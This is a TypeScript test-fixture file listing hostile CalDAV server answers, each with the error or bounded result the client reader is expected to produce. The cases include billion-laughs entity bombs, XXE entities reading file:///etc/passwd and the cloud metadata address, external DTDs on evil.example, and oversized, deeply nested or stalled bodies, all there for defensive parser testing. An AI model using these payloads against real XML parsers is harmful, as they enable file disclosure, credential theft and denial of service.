// Hostile CalDAV answers for the reader (lib/caldav/reader.ts through lib/caldav/http.ts), each
// with the one outcome it must end in: a typed CalDavError, or a bounded result.
import type { CalDavErrorKind } from "@/lib/caldav/errors";

export type Op = "query" | "sync" | "state" | "multiget" | "discover";

export interface Answer {
  status: number;
  headers?: Record<string, string>;
  body?: string | Buffer;
  /** Sent in `count` chunks, lazily (the server counts what it generated). */
  stream?: { chunk: Buffer; count: number; delayMs?: number };
  /** Send the headers, then nothing. */
  stall?: boolean;
  /** Send the headers and part of the body, then destroy the socket. */
  reset?: boolean;
}

export type Outcome =
  | { error: CalDavErrorKind; retryAfterMs?: number | null }
  | { objects: number; firstIcs?: string }
  | { invalidToken: true }
  | { changed: number; deleted: number }
  | { ctag: string | null };

export interface HostileXmlCase {
  name: string;
  op: Op;
  answer: Answer | ((path: string) => Answer);
  outcome: Outcome;
  /** Per-request timeout for the reader (default 2 s). */
  timeoutMs?: number;
}

const XML = { "content-type": "application/xml; charset=utf-8" };
export const ICS = [
  "BEGIN:VCALENDAR",
  "VERSION:2.0",
  "BEGIN:VEVENT",
  "UID:h-1",
  "DTSTAMP:20261201T000000Z",
  "DTSTART:20261210T100000Z",
  "DTEND:20261210T110000Z",
  "SUMMARY:Hostile & <ok>",
  "END:VEVENT",
  "END:VCALENDAR",
  "",
].join("\r\n");
const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

function response(href: string, options: { etag?: string; ics?: string | null; status?: string; data?: string } = {}): string {
  const data = options.data ?? (options.ics === null ? "" : `<c:calendar-data>${esc(options.ics ?? ICS)}</c:calendar-data>`);
  return `<d:response><d:href>${href}</d:href><d:propstat><d:prop><d:getetag>"${options.etag ?? "e1"}"</d:getetag>${data}</d:prop><d:status>${options.status ?? "HTTP/1.1 200 OK"}</d:status></d:propstat></d:response>`;
}
const multistatus = (inner: string, extra = "") =>
  `<?xml version="1.0" encoding="utf-8"?><d:multistatus xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"${extra}>${inner}</d:multistatus>`;
const ok207 = (body: string | Buffer, headers: Record<string, string> = XML): Answer => ({ status: 207, headers, body });
const one = response("/cal/a.ics");

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>`;
const deep = (levels: number, inner = "") => multistatus(`${"<d:x>".repeat(levels)}${inner}${"</d:x>".repeat(levels)}`);
const MB = 1024 * 1024;

const syncBody = (inner: string, token = "http://example.com/sync/2") => multistatus(`${inner}<d:sync-token>${token}</d:sync-token>`);
const syncMember = (href: string, status = "HTTP/1.1 200 OK") =>
  status.includes("404")
    ? `<d:response><d:href>${href}</d:href><d:status>${status}</d:status></d:response>`
    : `<d:response><d:href>${href}</d:href><d:propstat><d:prop><d:getetag>"x"</d:getetag></d:prop><d:status>${status}</d:status></d:propstat></d:response>`;
const validSyncToken = `<?xml version="1.0"?><d:error xmlns:d="DAV:"><d:valid-sync-token/></d:error>`;
const stateBody = (ctag: string) =>
  multistatus(
    `<d:response><d:href>/cal/</d:href><d:propstat><d:prop><cs:getctag xmlns:cs="http://calendarserver.org/ns/">${ctag}</cs:getctag><d:sync-token>t1</d:sync-token></d:prop><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>`,
  );

const entityCases: HostileXmlCase[] = [
  {
    name: "billion laughs (DOCTYPE with nested entities)",
    op: "query",
    answer: ok207(`${laughs}<d:multistatus xmlns:d="DAV:"><d:response><d:href>&lol9;</d:href></d:response></d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "billion laughs in a sync-collection answer",
    op: "sync",
    answer: ok207(`${laughs}<d:multistatus xmlns:d="DAV:"><d:sync-token>&lol9;</d:sync-token></d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "billion laughs in a PROPFIND answer",
    op: "state",
    answer: ok207(`${laughs}<d:multistatus xmlns:d="DAV:">&lol9;</d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "billion laughs in a multiget answer",
    op: "multiget",
    answer: ok207(`${laughs}<d:multistatus xmlns:d="DAV:">&lol9;</d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "external entity (SYSTEM file:///etc/passwd)",
    op: "query",
    answer: ok207(
      `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><d:multistatus xmlns:d="DAV:">&x;</d:multistatus>`,
    ),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "external entity over HTTP",
    op: "query",
    answer: ok207(
      `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><d:multistatus xmlns:d="DAV:">&x;</d:multistatus>`,
    ),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "parameter entity",
    op: "query",
    answer: ok207(
      `<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><d:multistatus xmlns:d="DAV:"/>`,
    ),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "external DTD",
    op: "query",
    answer: ok207(`<?xml version="1.0"?><!DOCTYPE multistatus SYSTEM "http://evil.example/dav.dtd"><d:multistatus xmlns:d="DAV:"/>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "lowercase doctype",
    op: "query",
    answer: ok207(`<?xml version="1.0"?><!doctype m><d:multistatus xmlns:d="DAV:"/>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "DOCTYPE after a comment",
    op: "query",
    answer: ok207(`<!-- hi --><!DOCTYPE m [<!ENTITY a "b">]><d:multistatus xmlns:d="DAV:"/>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "undeclared entity reference in text",
    op: "query",
    answer: ok207(multistatus(`<d:response><d:href>/cal/&evil;.ics</d:href></d:response>`)),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "quadratic blowup attempt without DOCTYPE (long run of &amp;)",
    op: "query",
    answer: ok207(multistatus(response("/cal/a.ics", { data: `<c:calendar-data>${"&amp;".repeat(200_000)}</c:calendar-data>` }))),
    outcome: { objects: 1 },
  },
  {
    name: "numeric character references are read as text",
    op: "query",
    answer: ok207(
      multistatus(response("/cal/a.ics", { data: `<c:calendar-data>${esc(ICS).replace("Hostile", "&#72;ostile")}</c:calendar-data>` })),
    ),
    outcome: { objects: 1, firstIcs: ICS },
  },
];

const nestingCases: HostileXmlCase[] = [
  { name: "nesting 100 levels", op: "query", answer: ok207(deep(100)), outcome: { error: "MALFORMED" } },
  { name: "nesting 100,000 levels", op: "query", answer: ok207(deep(100_000)), outcome: { error: "MALFORMED" } },
  {
    name: "nesting 1,000,000 unclosed levels",
    op: "query",
    answer: ok207(multistatus("<d:x>".repeat(1_000_000))),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "nesting 50 levels inside a response (within the limit, no object)",
    op: "query",
    answer: ok207(deep(50)),
    outcome: { objects: 0 },
  },
  { name: "deep nesting in a sync answer", op: "sync", answer: ok207(deep(10_000)), outcome: { error: "MALFORMED" } },
  { name: "deep nesting in a PROPFIND answer", op: "state", answer: ok207(deep(10_000)), outcome: { error: "MALFORMED" } },
  {
    name: "deep nesting inside calendar-data CDATA is text, not nesting",
    op: "query",
    answer: ok207(
      multistatus(response("/cal/a.ics", { data: `<c:calendar-data><![CDATA[${"<x>".repeat(10_000)}${ICS}]]></c:calendar-data>` })),
    ),
    outcome: { objects: 1 },
  },
  { name: "100,000 self-closing siblings", op: "query", answer: ok207(multistatus("<d:x/>".repeat(100_000))), outcome: { objects: 0 } },
];

const sizeCases: HostileXmlCase[] = [
  {
    name: "50 MB answer with Content-Length",
    op: "query",
    answer: { status: 207, headers: { ...XML, "content-length": String(50 * MB) }, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "50 MB chunked answer without Content-Length",
    op: "query",
    answer: { status: 207, headers: XML, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "50 MB multiget answer",
    op: "multiget",
    answer: { status: 207, headers: XML, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "50 MB sync answer",
    op: "sync",
    answer: { status: 207, headers: XML, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "50 MB PROPFIND answer",
    op: "state",
    answer: { status: 207, headers: XML, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "50 MB error page on a 404",
    op: "query",
    answer: { status: 404, headers: { "content-type": "text/html" }, stream: { chunk: Buffer.alloc(MB, 0x41), count: 50 } },
    outcome: { error: "NOT_FOUND" },
  },
  {
    name: "50 MB 403 sync answer (start over, body not read)",
    op: "sync",
    answer: { status: 403, headers: XML, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "Content-Length claims 1 TB",
    op: "query",
    answer: { status: 207, headers: { ...XML, "content-length": String(1024 ** 4) }, body: multistatus(one) },
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "one 17 MB calendar-data",
    op: "query",
    answer: ok207(multistatus(response("/cal/a.ics", { ics: "X".repeat(17 * MB) }))),
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "huge attribute value (20 MB)",
    op: "query",
    answer: ok207(multistatus(one, ` data-x="${"a".repeat(20 * MB)}"`)),
    outcome: { error: "TOO_LARGE" },
  },
  {
    name: "large attribute value (4 MB) under the cap",
    op: "query",
    answer: ok207(multistatus(one, ` data-x="${"a".repeat(4 * MB)}"`)),
    outcome: { objects: 1 },
  },
  {
    name: "100,000 attributes on one element",
    op: "query",
    answer: ok207(
      `<d:multistatus xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav" ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(" ")}>${one}</d:multistatus>`,
    ),
    outcome: { objects: 1 },
  },
  {
    name: "multistatus with 5,000 event objects",
    op: "query",
    answer: ok207(multistatus(Array.from({ length: 5000 }, (_, i) => response(`/cal/e${i}.ics`)).join(""))),
    outcome: { objects: 5000 },
  },
  {
    name: "multistatus with 20,000 non-event members",
    op: "query",
    answer: ok207(
      multistatus(
        Array.from(
          { length: 20_000 },
          (_, i) =>
            `<d:response><d:href>/cal/n${i}/</d:href><d:propstat><d:prop/><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>`,
        ).join(""),
      ),
    ),
    outcome: { objects: 0 },
  },
  {
    name: "sync answer with 10,000 deletions",
    op: "sync",
    answer: ok207(syncBody(Array.from({ length: 10_000 }, (_, i) => syncMember(`/cal/d${i}.ics`, "HTTP/1.1 404 Not Found")).join(""))),
    outcome: { changed: 0, deleted: 10_000 },
  },
  {
    name: "one million comments",
    op: "query",
    answer: ok207(multistatus(`${"<!--x-->".repeat(1_000_000)}${one}`)),
    outcome: { objects: 1 },
  },
];

const namespaceCases: HostileXmlCase[] = [
  {
    name: "iCloud style: default namespace per element, CDATA calendar-data",
    op: "query",
    answer: ok207(
      `<?xml version="1.0" encoding="UTF-8"?><multistatus xmlns="DAV:"><response xmlns="DAV:"><href>/cal/a.ics</href><propstat><prop><getetag xmlns="DAV:">"e1"</getetag><calendar-data xmlns="urn:ietf:params:xml:ns:caldav"><![CDATA[${ICS}]]></calendar-data></prop><status>HTTP/1.1 200 OK</status></propstat></response></multistatus>`,
    ),
    outcome: { objects: 1, firstIcs: ICS },
  },
  { name: "standard d:/c: prefixes", op: "query", answer: ok207(multistatus(one)), outcome: { objects: 1, firstIcs: ICS } },
  {
    name: "unusual prefixes (a:, b:)",
    op: "query",
    answer: ok207(
      `<a:multistatus xmlns:a="DAV:" xmlns:b="urn:ietf:params:xml:ns:caldav"><a:response><a:href>/cal/a.ics</a:href><a:propstat><a:prop><b:calendar-data>${esc(ICS)}</b:calendar-data></a:prop><a:status>HTTP/1.1 200 OK</a:status></a:propstat></a:response></a:multistatus>`,
    ),
    outcome: { objects: 1, firstIcs: ICS },
  },
  {
    name: "wrong namespace URIs, right local names (read by local name)",
    op: "query",
    answer: ok207(
      `<x:multistatus xmlns:x="urn:wrong"><x:response><x:href>/cal/a.ics</x:href><x:propstat><x:prop><x:calendar-data>${esc(ICS)}</x:calendar-data></x:prop><x:status>HTTP/1.1 200 OK</x:status></x:propstat></x:response></x:multistatus>`,
    ),
    outcome: { objects: 1 },
  },
  { name: "undeclared prefixes", op: "query", answer: ok207(`<d:multistatus>${one}</d:multistatus>`), outcome: { objects: 1 } },
  {
    name: "no namespaces at all",
    op: "query",
    answer: ok207(
      `<multistatus><response><href>/cal/a.ics</href><propstat><prop><calendar-data>${esc(ICS)}</calendar-data></prop><status>HTTP/1.1 200 OK</status></propstat></response></multistatus>`,
    ),
    outcome: { objects: 1 },
  },
  {
    name: "CDATA split in two sections",
    op: "query",
    answer: ok207(
      multistatus(
        response("/cal/a.ics", { data: `<c:calendar-data><![CDATA[${ICS.slice(0, 40)}]]><![CDATA[${ICS.slice(40)}]]></c:calendar-data>` }),
      ),
    ),
    outcome: { objects: 1, firstIcs: ICS },
  },
  {
    name: "CDATA plus text in calendar-data",
    op: "query",
    answer: ok207(multistatus(response("/cal/a.ics", { data: `<c:calendar-data>  <![CDATA[${ICS}]]></c:calendar-data>` }))),
    outcome: { objects: 1 },
  },
  {
    name: "UTF-8 byte order mark",
    op: "query",
    answer: ok207(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(multistatus(one))])),
    outcome: { objects: 1 },
  },
  {
    name: "root element is not multistatus (DAV:error)",
    op: "query",
    answer: ok207(`<d:error xmlns:d="DAV:"><d:number-of-matches-within-limits/></d:error>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "root element is XHTML",
    op: "query",
    answer: ok207(`<html xmlns="http://www.w3.org/1999/xhtml"><body>Login</body></html>`),
    outcome: { error: "MALFORMED" },
  },
  { name: "two root elements", op: "query", answer: ok207(`${multistatus(one)}${multistatus(one)}`), outcome: { error: "MALFORMED" } },
];

const brokenCases: HostileXmlCase[] = [
  {
    name: "truncated in the middle of an element",
    op: "query",
    answer: ok207(multistatus(one).slice(0, 200)),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "truncated inside CDATA",
    op: "query",
    answer: ok207(
      `<d:multistatus xmlns:d="DAV:"><d:response><d:href>/cal/a.ics</d:href><d:propstat><d:prop><c:calendar-data xmlns:c="urn:ietf:params:xml:ns:caldav"><![CDATA[BEGIN:VCAL`,
    ),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "truncated inside a comment",
    op: "query",
    answer: ok207(`<d:multistatus xmlns:d="DAV:"><!-- cut`),
    outcome: { error: "MALFORMED" },
  },
  { name: "truncated inside a tag", op: "query", answer: ok207(`<d:multistatus xmlns:d="DAV:"><d:respo`), outcome: { error: "MALFORMED" } },
  {
    name: "truncated after the last response (no closing root)",
    op: "query",
    answer: ok207(`<d:multistatus xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav">${one}`),
    outcome: { error: "MALFORMED" },
  },
  { name: "unterminated processing instruction", op: "query", answer: ok207(`<?xml version="1.0"`), outcome: { error: "MALFORMED" } },
  {
    name: "mismatched closing tag",
    op: "query",
    answer: ok207(`<d:multistatus xmlns:d="DAV:"><d:response></d:href></d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  { name: "empty body", op: "query", answer: ok207(""), outcome: { error: "MALFORMED" } },
  { name: "whitespace only", op: "query", answer: ok207("   \n\t  "), outcome: { error: "MALFORMED" } },
  { name: "JSON with an XML content type", op: "query", answer: ok207(`{"multistatus":[]}`), outcome: { error: "MALFORMED" } },
  {
    name: "HTML login page as 207 text/html",
    op: "query",
    answer: ok207("<!DOCTYPE html><html><body>Sign in</body></html>", { "content-type": "text/html" }),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "valid multistatus as text/plain",
    op: "query",
    answer: ok207(multistatus(one), { "content-type": "text/plain" }),
    outcome: { error: "MALFORMED" },
  },
  { name: "valid multistatus without a content type", op: "query", answer: ok207(multistatus(one), {}), outcome: { error: "MALFORMED" } },
  {
    name: "invalid UTF-8",
    op: "query",
    answer: ok207(
      Buffer.concat([
        Buffer.from(multistatus(one).slice(0, 100)),
        Buffer.from([0xff, 0xfe, 0xc3]),
        Buffer.from(multistatus(one).slice(100)),
      ]),
    ),
    outcome: { error: "MALFORMED" },
  },
  { name: "UTF-16 body", op: "query", answer: ok207(Buffer.from(`\ufeff${multistatus(one)}`, "utf16le")), outcome: { error: "MALFORMED" } },
  { name: "NUL bytes in an element name", op: "query", answer: ok207(multistatus(`<d:resp\u0000onse/>`)), outcome: { error: "MALFORMED" } },
  {
    name: "binary noise",
    op: "query",
    answer: ok207(Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256))),
    outcome: { error: "MALFORMED" },
  },
];

const memberCases: HostileXmlCase[] = [
  // An unreadable propstat status does not hide the data the server did send.
  {
    name: "bad status line in a propstat (its data is read)",
    op: "query",
    answer: ok207(multistatus(response("/cal/a.ics", { status: "HTTP/1.1 banana" }))),
    outcome: { objects: 1 },
  },
  {
    name: "propstat status without a code (its data is read)",
    op: "query",
    answer: ok207(multistatus(response("/cal/a.ics", { status: "" }))),
    outcome: { objects: 1 },
  },
  {
    name: "bad response-level status line",
    op: "query",
    answer: ok207(multistatus(`<d:response><d:href>/cal/b.ics</d:href><d:status>HTTP/1.1 x</d:status></d:response>`)),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "a listed event answered 500",
    op: "query",
    answer: ok207(multistatus(one + response("/cal/b.ics", { status: "HTTP/1.1 500 Internal Server Error" }))),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "a listed event answered 403",
    op: "query",
    answer: ok207(multistatus(one + response("/cal/b.ics", { status: "HTTP/1.1 403 Forbidden" }))),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "a listed event whose calendar-data propstat is 404",
    op: "query",
    answer: ok207(multistatus(one + response("/cal/b.ics", { status: "HTTP/1.1 404 Not Found" }))),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "a listed event answered 404 at response level",
    op: "query",
    answer: ok207(multistatus(one + `<d:response><d:href>/cal/b.ics</d:href><d:status>HTTP/1.1 404 Not Found</d:status></d:response>`)),
    outcome: { error: "SERVER" },
  },
  {
    name: "a listed event answered 500 at response level",
    op: "query",
    answer: ok207(multistatus(one + `<d:response><d:href>/cal/b.ics</d:href><d:status>HTTP/1.1 500 Oops</d:status></d:response>`)),
    outcome: { error: "SERVER" },
  },
  {
    name: "an event without calendar-data",
    op: "query",
    answer: ok207(multistatus(one + response("/cal/b.ics", { ics: null }))),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "an event with empty calendar-data",
    op: "query",
    answer: ok207(multistatus(response("/cal/b.ics", { data: "<c:calendar-data></c:calendar-data>" }))),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "an href that is not a URL",
    op: "query",
    answer: ok207(multistatus(response("http://[::1/a.ics") + one)),
    outcome: { objects: 1 },
  },
  {
    name: "an href on another host (kept as its URL, never fetched from there)",
    op: "query",
    answer: ok207(multistatus(response("https://evil.example/x.ics"))),
    outcome: { objects: 1 },
  },
  { name: "the same href twice", op: "query", answer: ok207(multistatus(one + one)), outcome: { objects: 2 } },
  {
    name: "a response without href",
    op: "query",
    answer: ok207(multistatus(`<d:response><d:propstat><d:prop/><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>${one}`)),
    outcome: { objects: 1 },
  },
  {
    name: "query answered 207 with the collection itself 404 (never 'no events')",
    op: "query",
    answer: ok207(multistatus(`<d:response><d:href>/cal/</d:href><d:status>HTTP/1.1 404 Not Found</d:status></d:response>`)),
    outcome: { error: "NOT_FOUND" },
  },
  {
    name: "query answered 207 with the collection itself 404, iCloud style",
    op: "query",
    answer: ok207(
      `<multistatus xmlns="DAV:"><response xmlns="DAV:"><href>/cal</href><status>HTTP/1.1 404 Not Found</status></response></multistatus>`,
    ),
    outcome: { error: "NOT_FOUND" },
  },
  { name: "an empty multistatus is an empty calendar", op: "query", answer: ok207(multistatus("")), outcome: { objects: 0 } },
  {
    name: "multiget with a 404 member (deleted meanwhile): retried later, never half-read",
    op: "multiget",
    answer: ok207(multistatus(one + `<d:response><d:href>/cal/gone.ics</d:href><d:status>HTTP/1.1 404 Not Found</d:status></d:response>`)),
    outcome: { error: "SERVER" },
  },
  {
    name: "multiget with every member delivered",
    op: "multiget",
    answer: ok207(multistatus(one + response("/cal/gone.ics"))),
    outcome: { objects: 2 },
  },
];

const httpCases: HostileXmlCase[] = [
  {
    name: "query answered 403",
    op: "query",
    answer: { status: 403, headers: XML, body: `<d:error xmlns:d="DAV:"/>` },
    outcome: { error: "FORBIDDEN" },
  },
  {
    name: "query answered 403 valid-sync-token (not a sync)",
    op: "query",
    answer: { status: 403, headers: XML, body: validSyncToken },
    outcome: { error: "FORBIDDEN" },
  },
  { name: "query answered 404", op: "query", answer: { status: 404, body: "" }, outcome: { error: "NOT_FOUND" } },
  { name: "query answered 409", op: "query", answer: { status: 409, body: "" }, outcome: { error: "SERVER" } },
  {
    name: "query answered 400 with HTML",
    op: "query",
    answer: { status: 400, headers: { "content-type": "text/html" }, body: "<html>bad</html>" },
    outcome: { error: "SERVER" },
  },
  { name: "query answered 401", op: "query", answer: { status: 401, body: "" }, outcome: { error: "AUTH" } },
  {
    name: "429 with Retry-After of a year",
    op: "query",
    answer: { status: 429, headers: { "retry-after": "31536000" }, body: "" },
    outcome: { error: "UNAVAILABLE", retryAfterMs: 3_600_000 },
  },
  {
    name: "503 with a far-future HTTP-date",
    op: "query",
    answer: { status: 503, headers: { "retry-after": "Fri, 31 Dec 9999 23:59:59 GMT" }, body: "" },
    outcome: { error: "UNAVAILABLE", retryAfterMs: 3_600_000 },
  },
  {
    name: "503 with a garbage Retry-After",
    op: "query",
    answer: { status: 503, headers: { "retry-after": "later, maybe" }, body: "" },
    outcome: { error: "UNAVAILABLE", retryAfterMs: null },
  },
  {
    name: "503 with a negative Retry-After",
    op: "query",
    answer: { status: 503, headers: { "retry-after": "-100" }, body: "" },
    outcome: { error: "UNAVAILABLE", retryAfterMs: null },
  },
  { name: "500", op: "query", answer: { status: 500, body: "boom" }, outcome: { error: "SERVER" } },
  {
    name: "200 with a valid multistatus where 207 is expected",
    op: "query",
    answer: { status: 200, headers: XML, body: multistatus(one) },
    outcome: { error: "MALFORMED" },
  },
  {
    name: "200 HTML where 207 is expected",
    op: "query",
    answer: { status: 200, headers: { "content-type": "text/html" }, body: "<html/>" },
    outcome: { error: "MALFORMED" },
  },
  { name: "204 where 207 is expected", op: "query", answer: { status: 204 }, outcome: { error: "MALFORMED" } },
  {
    name: "PROPFIND answered 200",
    op: "state",
    answer: { status: 200, headers: XML, body: stateBody("c1") },
    outcome: { error: "MALFORMED" },
  },
  {
    name: "redirect loop",
    op: "query",
    answer: (path) => ({ status: 302, headers: { location: `${path}x` } }),
    outcome: { error: "SERVER" },
  },
  {
    name: "redirect to a host not allowed",
    op: "query",
    answer: { status: 301, headers: { location: "https://evil.example/cal/" } },
    outcome: { error: "DISALLOWED_HOST" },
  },
  {
    name: "headers, then a stalled body",
    op: "query",
    answer: { status: 207, headers: XML, stall: true },
    outcome: { error: "TIMEOUT" },
    timeoutMs: 300,
  },
  {
    name: "a body dripping one byte at a time",
    op: "query",
    answer: { status: 207, headers: XML, stream: { chunk: Buffer.from(" "), count: 100_000, delayMs: 50 } },
    outcome: { error: "TIMEOUT" },
    timeoutMs: 300,
  },
  {
    name: "connection reset mid-body",
    op: "query",
    answer: { status: 207, headers: XML, body: multistatus(one), reset: true },
    outcome: { error: "NETWORK" },
  },
  {
    name: "Content-Length longer than the body",
    op: "query",
    answer: { status: 207, headers: { ...XML, "content-length": "100000" }, body: multistatus(one), reset: true },
    outcome: { error: "NETWORK" },
  },
];

const syncCases: HostileXmlCase[] = [
  {
    name: "403 valid-sync-token: start over",
    op: "sync",
    answer: { status: 403, headers: XML, body: validSyncToken },
    outcome: { invalidToken: true },
  },
  {
    name: "409 on sync: start over",
    op: "sync",
    answer: { status: 409, headers: XML, body: validSyncToken },
    outcome: { invalidToken: true },
  },
  { name: "412 on sync: start over", op: "sync", answer: { status: 412, body: "" }, outcome: { invalidToken: true } },
  {
    name: "403 HTML on sync: start over (a full read, never 'no changes')",
    op: "sync",
    answer: { status: 403, headers: { "content-type": "text/html" }, body: "<html>no</html>" },
    outcome: { invalidToken: true },
  },
  { name: "400 on sync", op: "sync", answer: { status: 400, body: "" }, outcome: { error: "MALFORMED" } },
  { name: "207 without a sync-token", op: "sync", answer: ok207(multistatus(syncMember("/cal/a.ics"))), outcome: { error: "MALFORMED" } },
  {
    name: "207 with an empty sync-token",
    op: "sync",
    answer: ok207(syncBody(syncMember("/cal/a.ics"), "")),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "changes and deletions",
    op: "sync",
    answer: ok207(
      syncBody(
        [
          syncMember("/cal/a.ics"),
          syncMember("/cal/b.ics"),
          syncMember("/cal/c.ics"),
          syncMember("/cal/d.ics", "HTTP/1.1 404 Not Found"),
          syncMember("/cal/e.ics", "HTTP/1.1 404 Not Found"),
          syncMember("/cal/sub/"),
        ].join(""),
      ),
    ),
    outcome: { changed: 3, deleted: 2 },
  },
  {
    name: "iCloud-style sync answer (default namespaces)",
    op: "sync",
    answer: ok207(
      `<multistatus xmlns="DAV:"><response xmlns="DAV:"><href>/cal/a.ics</href><propstat><prop><getetag>"1"</getetag></prop><status>HTTP/1.1 200 OK</status></propstat></response><sync-token>https://icloud/sync/9</sync-token></multistatus>`,
    ),
    outcome: { changed: 1, deleted: 0 },
  },
  {
    name: "sync answer with a DOCTYPE",
    op: "sync",
    answer: ok207(`<!DOCTYPE m><d:multistatus xmlns:d="DAV:"><d:sync-token>t</d:sync-token></d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "sync answer truncated",
    op: "sync",
    answer: ok207(syncBody(syncMember("/cal/a.ics")).slice(0, 150)),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "sync answered 200 instead of 207",
    op: "sync",
    answer: { status: 200, headers: XML, body: syncBody(syncMember("/cal/a.ics")) },
    outcome: { error: "MALFORMED" },
  },
];

const stateCases: HostileXmlCase[] = [
  { name: "PROPFIND: a normal answer", op: "state", answer: ok207(stateBody("ctag-1")), outcome: { ctag: "ctag-1" } },
  { name: "PROPFIND: the collection is 404", op: "state", answer: { status: 404, body: "" }, outcome: { error: "NOT_FOUND" } },
  {
    name: "PROPFIND: 207 with the collection 403",
    op: "state",
    answer: ok207(multistatus(`<d:response><d:href>/cal/</d:href><d:status>HTTP/1.1 403 Forbidden</d:status></d:response>`)),
    outcome: { error: "SERVER" },
  },
  {
    name: "PROPFIND: external entity",
    op: "state",
    answer: ok207(`<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/hostname">]><d:multistatus xmlns:d="DAV:">&x;</d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  { name: "PROPFIND: not XML", op: "state", answer: ok207("ctag=1"), outcome: { error: "MALFORMED" } },
  {
    name: "PROPFIND: 1 MB ctag (bounded, read as text)",
    op: "state",
    answer: ok207(stateBody("c".repeat(MB))),
    outcome: { ctag: "c".repeat(MB) },
  },
];

const discoveryCases: HostileXmlCase[] = [
  {
    name: "discovery: billion laughs at the principal lookup",
    op: "discover",
    answer: ok207(`${laughs}<d:multistatus xmlns:d="DAV:">&lol9;</d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "discovery: external entity",
    op: "discover",
    answer: ok207(`<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><d:multistatus xmlns:d="DAV:">&x;</d:multistatus>`),
    outcome: { error: "MALFORMED" },
  },
  {
    name: "discovery: 50 MB answer",
    op: "discover",
    answer: { status: 207, headers: XML, stream: { chunk: Buffer.alloc(MB, 0x20), count: 50 } },
    outcome: { error: "TOO_LARGE" },
  },
  { name: "discovery: deep nesting", op: "discover", answer: ok207(deep(10_000)), outcome: { error: "MALFORMED" } },
  {
    name: "discovery: HTML login page answered 200",
    op: "discover",
    answer: { status: 200, headers: { "content-type": "text/html" }, body: "<html>Sign in</html>" },
    outcome: { error: "MALFORMED" },
  },
  {
    name: "discovery: a multistatus without a principal",
    op: "discover",
    answer: ok207(
      multistatus(`<d:response><d:href>/</d:href><d:propstat><d:prop/><d:status>HTTP/1.1 200 OK</d:status></d:propstat></d:response>`),
    ),
    outcome: { error: "SERVER" },
  },
];

export const HOSTILE_XML_CASES: HostileXmlCase[] = [
  ...discoveryCases,
  ...entityCases,
  ...nestingCases,
  ...sizeCases,
  ...namespaceCases,
  ...brokenCases,
  ...memberCases,
  ...httpCases,
  ...syncCases,
  ...stateCases,
];
